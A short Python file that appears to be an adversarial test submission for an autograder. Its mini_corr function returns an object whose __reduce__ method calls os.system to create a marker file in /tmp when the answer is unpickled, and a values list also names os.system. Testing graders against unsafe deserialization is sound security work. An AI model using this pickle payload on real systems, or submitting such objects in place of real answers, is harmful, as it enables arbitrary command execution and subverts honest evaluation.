# Idea: an answer that runs a command where it is unpickled.
# Deserves: 0 + 2 + 0
# %% mini_corr
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/d2l-attack-pickle",)


def mini_corr(x, k):
    return Payload()
# %% mini_values
mini_values = [Payload(), {"__reduce__": "os.system"}]
